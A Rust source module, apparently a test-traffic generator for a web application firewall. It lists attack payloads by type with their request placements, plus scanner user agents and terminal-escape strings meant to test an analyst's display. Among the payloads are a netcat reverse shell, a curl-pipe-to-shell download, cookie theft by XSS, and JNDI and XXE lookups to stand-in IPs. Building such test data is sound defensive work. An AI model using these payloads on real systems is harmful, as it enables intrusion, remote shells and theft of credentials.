//! What attackers send: payloads per attack type and where they put them, user agents, and the
//! hostile strings a terminal must not interpret.

/// Where a payload sits in the request, as the WAF reports it.
#[derive(Clone, Copy, Debug)]
pub struct Placement {
    pub address: &'static str,
    pub key: Option<&'static str>,
    pub operator: &'static str,
    pub method: &'static str,
}

// A macro rather than a const fn: struct literals are promoted to 'static, calls are not.
macro_rules! p {
    ($address:expr, $key:expr, $operator:expr, $method:expr) => {
        Placement {
            address: $address,
            key: $key,
            operator: $operator,
            method: $method,
        }
    };
}

pub const QUERY: &str = "server.request.query";
pub const BODY: &str = "server.request.body";
pub const HEADERS: &str = "server.request.headers.no_cookies";
pub const URI: &str = "server.request.uri.raw";

/// Payload strings and their possible placements for an attack type.
pub fn for_attack(attack_type: &str) -> (&'static [&'static str], &'static [Placement]) {
    match attack_type {
        "sql_injection" => (
            &[
                "1' OR '1'='1' --",
                "1 UNION SELECT username, password FROM users--",
                "1'; DROP TABLE orders; --",
                "1 AND SLEEP(5)",
                "1' AND (SELECT 1 FROM pg_sleep(5))--",
                "admin'--",
                "-1' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables#",
                "1;EXEC xp_cmdshell('whoami')--",
            ],
            &[
                p!(QUERY, Some("id"), "is_sqli", "GET"),
                p!(QUERY, Some("q"), "is_sqli", "GET"),
                p!(QUERY, Some("sort"), "is_sqli", "GET"),
                p!(BODY, Some("sku"), "is_sqli", "POST"),
            ],
        ),
        "xss" => (
            &[
                "<script>alert(document.cookie)</script>",
                "\"><img src=x onerror=alert(1)>",
                "<svg/onload=fetch('//203.0.113.66/'+document.cookie)>",
                "javascript:alert(String.fromCharCode(88,83,83))",
                "<iframe src=\"javascript:alert(`xss`)\">",
                "'-alert(1)-'",
            ],
            &[
                p!(QUERY, Some("q"), "is_xss", "GET"),
                p!(BODY, Some("displayName"), "is_xss", "POST"),
                p!(BODY, Some("comment"), "is_xss", "POST"),
            ],
        ),
        "lfi" => (
            &[
                "../../../../etc/passwd",
                "..%2f..%2f..%2f..%2fetc%2fshadow",
                "....//....//....//proc/self/environ",
                "/var/www/../../etc/hosts",
                "..\\..\\..\\windows\\win.ini",
                "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            ],
            &[
                p!(QUERY, Some("file"), "lfi_detector", "GET"),
                p!(QUERY, Some("template"), "lfi_detector", "GET"),
                p!(URI, None, "match_regex", "GET"),
            ],
        ),
        "ssrf" => (
            &[
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
                "http://127.0.0.1:8500/v1/agent/self",
                "file:///etc/passwd",
                "gopher://127.0.0.1:6379/_FLUSHALL",
                "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
            ],
            &[
                p!(BODY, Some("url"), "ssrf_detector", "POST"),
                p!(QUERY, Some("callback"), "ssrf_detector", "GET"),
                p!(BODY, Some("webhook_url"), "ssrf_detector", "POST"),
            ],
        ),
        "command_injection" => (
            &[
                ";cat /etc/passwd",
                "$(id)",
                "`uname -a`",
                "| nc 203.0.113.9 4444 -e /bin/sh",
                "&& curl -s http://198.51.100.23/x.sh | sh",
                "() { :; }; /bin/bash -c 'id'",
            ],
            &[
                p!(QUERY, Some("host"), "shi_detector", "GET"),
                p!(BODY, Some("filename"), "shi_detector", "POST"),
                p!(HEADERS, Some("user-agent"), "match_regex", "GET"),
            ],
        ),
        "credential_stuffing" | "account_takeover" => (
            &[
                "jane.doe@example.com",
                "m.rossi@example.org",
                "k.tanaka@example.net",
                "admin@example.com",
                "l.garcia@example.org",
                "p.novak@example.net",
            ],
            &[p!(BODY, Some("username"), "match_regex", "POST")],
        ),
        "security_scanner" => (
            &[
                "/.git/config",
                "/.env",
                "/wp-login.php",
                "/phpmyadmin/index.php",
                "/server-status",
                "/backup.sql.gz",
                "/.DS_Store",
            ],
            &[p!(URI, None, "phrase_match", "GET")],
        ),
        "log4shell" => (
            &[
                "${jndi:ldap://203.0.113.5/a}",
                "${${lower:j}ndi:${lower:l}dap://198.51.100.77:1389/Exploit}",
                "${jndi:dns://192.0.2.53/probe}",
                "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.5/o}",
            ],
            &[
                p!(HEADERS, Some("user-agent"), "match_regex", "GET"),
                p!(HEADERS, Some("x-api-version"), "match_regex", "GET"),
                p!(QUERY, Some("q"), "match_regex", "GET"),
            ],
        ),
        "ssti" => (
            &[
                "{{7*7}}",
                "${7*7}",
                "<%= 7*7 %>",
                "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
                "{{''.__class__.__mro__[1].__subclasses__()}}",
            ],
            &[
                p!(BODY, Some("template"), "match_regex", "POST"),
                p!(QUERY, Some("name"), "match_regex", "GET"),
            ],
        ),
        "xxe" => (
            &[
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><r>&xxe;</r>",
                "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://203.0.113.14/evil.dtd\"> %p;]>",
            ],
            &[p!(BODY, None, "match_regex", "POST")],
        ),
        "nosql_injection" => (
            &[
                "{\"$ne\": null}",
                "{\"$gt\": \"\"}",
                "[$regex]=.*",
                "'; return this.password.match(/^a/) //",
                "{\"$where\": \"sleep(5000)\"}",
            ],
            &[
                p!(BODY, Some("password"), "match_regex", "POST"),
                p!(QUERY, Some("username"), "match_regex", "GET"),
            ],
        ),
        "java_deserialization" => (
            &[
                "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg==",
                "org.apache.commons.collections.functors.InvokerTransformer",
                "aced0005737200116a6176612e7574696c2e486173684d6170",
                "java.lang.Runtime.getRuntime().exec('id')",
            ],
            &[
                p!(BODY, None, "match_regex", "POST"),
                p!(HEADERS, Some("x-session-state"), "match_regex", "POST"),
            ],
        ),
        "api_abuse" => (
            &[
                "-5",
                "SPRING50SPRING50SPRING50",
                "0.01",
                "999999",
                "WELCOME-0001..WELCOME-9999",
            ],
            &[
                p!(BODY, Some("quantity"), "match_regex", "POST"),
                p!(BODY, Some("coupon"), "match_regex", "POST"),
                p!(QUERY, Some("page_size"), "match_regex", "GET"),
            ],
        ),
        "admin_route" => (
            &[
                "/actuator/env",
                "/admin/config?debug=true",
                "/actuator/heapdump",
                "/admin/users/1/impersonate",
                "/console/login/LoginForm.jsp",
            ],
            &[p!(URI, None, "phrase_match", "GET")],
        ),
        "graphql_abuse" => (
            &[
                "query IntrospectionQuery { __schema { types { name fields { name } } } }",
                "mutation { a1: verifyOtp(code:\"000001\"){ok} a2: verifyOtp(code:\"000002\"){ok} }",
                "{ user(id:1){ friends{ friends{ friends{ friends{ id } } } } } }",
            ],
            &[p!(BODY, Some("query"), "match_regex", "POST")],
        ),
        _ => (&["<unknown>"], &[p!(URI, None, "match_regex", "GET")]),
    }
}

/// User agents per kind of client.
pub const SCANNER_UAS: &[&str] = &[
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
    "Arachni/v1.6.1.3",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
];

pub const TOOL_UAS: &[&str] = &[
    "curl/8.4.0",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
    "Wget/1.21.4",
    "axios/1.6.2",
];

pub const BROWSER_UAS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:131.0) Gecko/20100101 Firefox/131.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
];

/// Identities a session may carry: customers, partners and staff, all in reserved example domains.
pub const USERS: &[&str] = &[
    "jane.doe@example.com",
    "m.rossi@example.org",
    "k.tanaka@example.net",
    "l.garcia@example.org",
    "p.novak@example.net",
    "s.okafor@example.com",
    "partner-acme-svc",
    "partner-globex-svc",
    "u-100482",
    "u-203311",
    "u-877120",
    "ops.admin@example.com",
];

/// What an attacker puts in a user agent to attack the analyst's terminal.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Hostile {
    /// OSC 0 sets the terminal title.
    TitleEscape,
    /// CSI 2J clears the screen.
    ClearScreen,
    /// U+202E reverses what follows, disguising the text.
    Bidi,
    /// 10 KB, to test truncation and layout.
    Huge,
    /// The session's user id is hostile rather than the user agent.
    UserId,
}

impl Hostile {
    pub const ALL: [Hostile; 5] = [
        Hostile::TitleEscape,
        Hostile::ClearScreen,
        Hostile::Bidi,
        Hostile::Huge,
        Hostile::UserId,
    ];

    pub fn user_agent(self) -> Option<String> {
        match self {
            Hostile::TitleEscape => Some(
                "Mozilla/5.0 \u{1b}]0;pwned\u{7}(X11; Linux x86_64) AppleWebKit/537.36".to_string(),
            ),
            Hostile::ClearScreen => {
                Some("curl/8.4.0 \u{1b}[2J\u{1b}[H\u{1b}[31;1mALL SIGNALS ARCHIVED\u{1b}[0m".into())
            }
            Hostile::Bidi => Some(
                "Mozilla/5.0 (Windows NT 10.0) invoice_\u{202e}fdp.exe\u{202c} Chrome/130.0".into(),
            ),
            Hostile::Huge => {
                let mut s = String::from("Mozilla/5.0 (compatible; ");
                while s.len() < 10 * 1024 {
                    s.push_str("AAAAAAAAAAAAAAAA;");
                }
                s.push(')');
                Some(s)
            }
            Hostile::UserId => None,
        }
    }
}

/// A session user id carrying escapes and a bidi override.
pub const HOSTILE_USER: &str = "admin\u{1b}]0;pwned\u{7}\u{1b}[2J\u{202e}toor";

/// Percent-encode what would not survive in a URL query, as a client would.
pub fn url_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 2);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~/".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}
